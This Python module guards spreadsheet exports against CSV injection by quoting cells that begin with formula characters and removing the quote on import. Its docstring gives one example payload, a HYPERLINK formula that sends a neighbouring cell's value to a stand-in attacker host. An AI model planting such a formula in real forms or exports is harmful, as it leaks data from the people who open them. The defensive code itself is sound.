"""Cells that spreadsheets would run as formulas, made inert when written and restored when read.

A name such as ``=HYPERLINK("https://evil.example/?d="&A2,"x")`` typed into the subscribe form
becomes a live formula when an officer opens an export in Excel or LibreOffice (CSV injection):
it can send the neighbouring cells away or start a program. Following OWASP, every cell written
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single
quote, which spreadsheets show as text. Real values are quoted too (a phone number "+90 312 …",
a lone "-"): that is OWASP's rule, and ``restore`` takes the quote off again on import, so an
export imports back unchanged.

So that the round trip loses nothing, a value that already starts with quotes followed by one of
those characters ("'=x") gets one more quote, and ``restore`` removes exactly one.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

TRIGGERS = "=+-@\t\r"
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")
_FIRST = frozenset(TRIGGERS + "'")  # a cheap test before the pattern, for 100,000-row files


def neutralise(value: str) -> str:
    """The cell as written to a CSV file: inert in a spreadsheet."""
    return "'" + value if value[:1] in _FIRST and _NEEDS_QUOTE.match(value) else value


def restore(value: str) -> str:
    """A cell as read from a CSV file: the quote ``neutralise`` added, removed."""
    return value[1:] if value[:1] == "'" and _QUOTED.match(value) else value


def row(values: Iterable[object]) -> list[str]:
    """A row ready for csv.writer: every cell text, neutralised (None is an empty cell)."""
    return [neutralise(v if isinstance(v, str) else "" if v is None else str(v)) for v in values]
